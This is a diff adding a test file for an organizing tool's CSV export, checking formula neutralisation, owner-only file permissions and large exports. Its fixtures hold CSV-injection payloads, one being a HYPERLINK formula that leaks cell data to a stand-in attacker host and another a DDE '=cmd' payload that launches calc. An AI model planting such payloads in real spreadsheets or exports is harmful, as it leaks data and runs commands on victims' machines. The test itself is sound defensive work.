@@ -1,0 +1,165 @@
+import Database from 'better-sqlite3';
+import { parse } from 'csv-parse/sync';
+import { chmodSync, readFileSync, statSync, writeFileSync } from 'node:fs';
+import { join } from 'node:path';
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { sandbox, type Sandbox } from './helpers.js';
+
+const FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A1,"click me")', '+1', '-2+3', '@SUM(A1:A9)'];
+const TRICKY = 'her kids\' safety, "above all"\nand the rent 🏠';
+
+function csvOf(text: string): Record<string, string>[] {
+  return parse(text, { columns: true, bom: true }) as Record<string, string>[];
+}
+
+describe('export', () => {
+  let box: Sandbox;
+
+  beforeAll(() => {
+    box = sandbox();
+    const ana = box.run([
+      'log', 'Ana Ruiz', '--date', '2026-11-02 18:00', '--minutes', '45', '--goal', 'recruitment',
+      '--value', TRICKY, '--value', 'family first', '--issue', FORMULAS[0]!, '--note', FORMULAS[1]!, '--note', FORMULAS[2]!,
+      '--skill', FORMULAS[3]!, '--ask', 'come to the tenant meeting', '--outcome', 'yes', '--ask', 'bring a neighbour, maybe two',
+      '--rung', 'participant', '--potential', '4', '--email', 'ana@example.org', '--phone', '+1 555 0100',
+      '--organization', '=cmd|\' /C calc\'!A0', '--followup', '2099-01-05 10:00', '--followup-note', 'call, "gently"',
+    ]);
+    expect(ana.code, ana.stderr).toBe(0);
+    const bo = box.run(['log', 'Bo Chen', '--date', '2026-11-03 09:30', '--minutes', '20', '--goal', 'maintenance', '--template', 'agenda']);
+    expect(bo.code, bo.stderr).toBe(0);
+    // `log` records no clock; a meeting run with `start` would have these.
+    const db = new Database(box.db);
+    db.prepare(`UPDATE meeting_phases SET actual_seconds = 300, organizer_talk_seconds = 60, other_talk_seconds = 180 WHERE meeting_id = 1`).run();
+    db.close();
+  });
+
+  afterAll(() => box.cleanup());
+
+  it('meetings come out one row per meeting with asks, outcomes, rung after and notes by tag, read back field by field', () => {
+    const result = box.run(['export', 'meetings']);
+    expect(result.code, result.stderr).toBe(0);
+    expect(result.stdout.split('\r\n')[0]).toBe(
+      'id,person,date,goal,template,status,planned_minutes,actual_minutes,organizer_talk_share,asks,outcomes,rung_after,agitation,' +
+        'values,interests,motivations,issues,skills,capacity,stories_shared,lead_ins,other_notes',
+    );
+    const db = new Database(box.db, { readonly: true });
+    const phases = (db.prepare(`SELECT count(*) AS n FROM meeting_phases WHERE meeting_id = 1`).get() as { n: number }).n;
+    const heldAt = db.prepare(`SELECT held_at FROM meetings ORDER BY id`).pluck().all() as string[];
+    db.close();
+    const rows = csvOf(result.stdout);
+    expect(rows).toHaveLength(2);
+    expect(rows[0]).toEqual({
+      id: '1', person: 'Ana Ruiz', date: heldAt[0], goal: 'recruitment', template: 'agenda', status: 'complete',
+      planned_minutes: '45', actual_minutes: String(Math.round((phases * 300) / 6) / 10), organizer_talk_share: '0.25',
+      asks: 'come to the tenant meeting (yes) | bring a neighbour, maybe two', outcomes: 'yes | no answer',
+      rung_after: 'participant', agitation: '',
+      values: `${TRICKY} | family first`, interests: '', motivations: '', issues: `'${FORMULAS[0]}`, skills: `'${FORMULAS[3]}`,
+      capacity: '', stories_shared: '', lead_ins: '', other_notes: `'${FORMULAS[1]} | ${FORMULAS[2]}`,
+    });
+    expect(rows[1]).toMatchObject({ id: '2', person: 'Bo Chen', date: heldAt[1], goal: 'maintenance', planned_minutes: '20', actual_minutes: '', organizer_talk_share: '', asks: '', rung_after: '' });
+  });
+
+  it('notes come out one per row, every formula payload behind a single quote and everything else untouched', () => {
+    const rows = csvOf(box.run(['export', 'notes']).stdout);
+    expect(rows.map((row) => [row.tag, row.note])).toEqual([
+      ['value', TRICKY], ['value', 'family first'], ['issue', `'${FORMULAS[0]}`], ['skill', `'${FORMULAS[3]}`],
+      ['note', `'${FORMULAS[1]}`], ['note', `'${FORMULAS[2]}`],
+    ]);
+    expect(rows.every((row) => row.person === 'Ana Ruiz' && row.meeting_id === '1')).toBe(true);
+  });
+
+  it('people come out with their contact details, numbers as numbers and a phone starting with + neutralised', () => {
+    const result = box.run(['export', 'people']);
+    // numbers are written bare, never quoted or prefixed
+    expect(result.stdout).toMatch(/\r\n1,Ana Ruiz,participant,4,ana@example.org,'\+1 555 0100,,'=cmd\|' \/C calc'!A0,,,,1,/);
+    const rows = csvOf(result.stdout);
+    expect(rows.map((row) => [row.name, row.rung, row.potential, row.email, row.phone, row.organization, row.meetings])).toEqual([
+      ['Ana Ruiz', 'participant', '4', 'ana@example.org', "'+1 555 0100", "'=cmd|' /C calc'!A0", '1'],
+      ['Bo Chen', 'contact', '', '', '', '', '1'],
+    ]);
+  });
+
+  it('asks and follow-ups come out with their text, outcome and due date', () => {
+    const asks = csvOf(box.run(['export', 'asks']).stdout);
+    expect(asks.map((row) => [row.id, row.person, row.meeting_id, row.ask, row.outcome, row.result])).toEqual([
+      ['1', 'Ana Ruiz', '1', 'come to the tenant meeting', 'yes', ''],
+      ['2', 'Ana Ruiz', '1', 'bring a neighbour, maybe two', '', ''],
+    ]);
+    const followups = csvOf(box.run(['export', 'followups']).stdout);
+    expect(followups).toHaveLength(1);
+    expect(followups[0]).toMatchObject({ person: 'Ana Ruiz', followup: 'call, "gently"', done: '' });
+    expect(new Date(followups[0]!.due!).getTime()).toBe(new Date(2099, 0, 5, 10, 0).getTime());
+  });
+
+  it('--bom starts the file with a byte-order mark and changes nothing else', () => {
+    const plain = box.run(['export', 'people']).stdout;
+    const withBom = box.run(['export', 'people', '--bom']).stdout;
+    expect(withBom.charCodeAt(0)).toBe(0xfeff);
+    expect(withBom.slice(1)).toBe(plain);
+  });
+
+  it('--out writes a file only its owner can read, even over an existing readable file, and nothing to stdout', () => {
+    const out = join(box.dir, 'meetings.csv');
+    writeFileSync(out, 'old');
+    chmodSync(out, 0o644);
+    const result = box.run(['export', 'meetings', '--out', out]);
+    expect(result.code, result.stderr).toBe(0);
+    expect(result.stdout).toBe('');
+    expect(result.stderr).toContain('Wrote 2 meetings');
+    expect(statSync(out).mode & 0o777).toBe(0o600);
+    expect(readFileSync(out, 'utf8')).toBe(box.run(['export', 'meetings']).stdout);
+  });
+
+  it('refuses to write over the database itself', () => {
+    const result = box.run(['export', 'people', '--out', box.db]);
+    expect(result.code).toBe(1);
+    expect(result.stderr).toContain('is your database itself');
+    expect(box.run(['people', '--json']).code).toBe(0);
+  });
+
+  it('an unknown table is a usage error', () => {
+    const result = box.run(['export', 'secrets']);
+    expect(result.code).toBe(2);
+    expect(result.stderr).toContain('people, meetings, asks, followups, notes');
+  });
+
+  it('200,000 generated meetings export as 200,000 rows after the header', () => {
+    const big = sandbox();
+    try {
+      expect(big.run(['log', 'Ana Ruiz', '--date', '2026-01-05 18:00']).code).toBe(0);
+      const db = new Database(big.db);
+      const meeting = db.prepare(
+        `INSERT INTO meetings (person_id, held_at, goal, template, planned_minutes, status, created_at, updated_at)
+         VALUES (?, ?, 'recruitment', 'agenda', 30, 'complete', ?, ?)`,
+      );
+      const note = db.prepare(`INSERT INTO notes (person_id, meeting_id, tag, text, created_at) VALUES (?, ?, 'value', ?, ?)`);
+      db.transaction(() => {
+        const person = db.prepare(`INSERT INTO people (name, name_key, rung, created_at, updated_at) VALUES (?, ?, 'contact', ?, ?)`);
+        for (let i = 0; i < 500; i++) person.run(`Person ${i}`, `person ${i}`, '2026-01-01', '2026-01-01');
+        for (let i = 1; i < 200_000; i++) {
+          const at = new Date(Date.UTC(2020, 0, 1) + i * 600_000).toISOString();
+          const id = Number(meeting.run(1 + (i % 500), at, at, at).lastInsertRowid);
+          if (i % 10 === 0) note.run(1 + (i % 500), id, `said "yes", line ${i}\nnext`, at);
+        }
+      })();
+      db.close();
+      const out = join(big.dir, 'all.csv');
+      const started = Date.now();
+      const result = big.run(['export', 'meetings', '--out', out]);
+      const seconds = (Date.now() - started) / 1000;
+      expect(result.code, result.stderr).toBe(0);
+      const csv = readFileSync(out, 'utf8');
+      // Fields here hold bare \n only, so each CRLF ends one record: count them, then read the tail back properly.
+      expect(csv.split('\r\n').length - 2).toBe(200_000);
+      const header = csv.slice(0, csv.indexOf('\r\n') + 2);
+      const tail = parse(header + csv.slice(csv.indexOf('\r\n199001,') + 2), { columns: true }) as Record<string, string>[];
+      expect(tail).toHaveLength(1000);
+      expect(tail.at(-1)).toMatchObject({ id: '200000', planned_minutes: '30', values: '', date: new Date(Date.UTC(2020, 0, 1) + 199_999 * 600_000).toISOString() });
+      expect(tail.find((row) => row.id === '199991')).toMatchObject({ person: 'Person 490', values: 'said "yes", line 199990\nnext' });
+      expect(seconds).toBeLessThan(25);
+      console.log(`exported 200,000 meetings in ${seconds.toFixed(1)} s`);
+    } finally {
+      big.cleanup();
+    }
+  });
+});
